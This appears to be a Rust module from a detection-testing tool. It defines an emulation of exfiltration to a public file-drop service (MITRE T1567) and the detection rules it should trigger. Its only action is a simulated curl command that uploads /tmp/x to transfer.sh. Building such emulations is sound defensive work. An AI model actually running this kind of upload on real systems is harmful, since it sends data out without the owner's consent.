//! Loot put where anybody can fetch it, by a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "drop-service",
    title: "File drop used",
    technique: "T1567",
    technique_v18: None,
    needs: &[],
    rules: &["File or message drop used by a plain tool", "File of the system uploaded by a plain tool"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("curl", &["--upload-file", "/tmp/x", "https://transfer.sh/x"])
}
